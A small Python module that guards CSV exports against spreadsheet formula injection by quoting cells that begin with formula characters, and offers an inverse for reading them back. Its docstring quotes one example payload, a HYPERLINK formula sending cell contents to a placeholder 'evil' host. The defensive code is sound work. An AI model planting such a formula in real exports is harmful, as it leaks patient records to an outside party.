"""CSV cells that a spreadsheet opens safely. Excel and LibreOffice run a cell starting with = + - @ (or a tab or
carriage return followed by one) as a formula: `=HYPERLINK("http://evil/?"&A1)` in a patient's name would send the
register away when a clerk opens the export. OWASP's advice: prefix such cells with a single quote."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """`value` as written to a CSV cell: a string starting with FORMULA_STARTS gets a leading `'`; anything else
    (numbers, dates, None, ordinary text) is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values) -> list:
    """`safe_cell` applied to every value of a row."""
    return [safe_cell(value) for value in values]


def unquote_cell(value: str) -> str:
    """The inverse of `safe_cell` for text read back from a CSV this project wrote: `'=x` -> `=x`; any other
    text unchanged (a name that merely starts with a quote keeps it)."""
    if value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
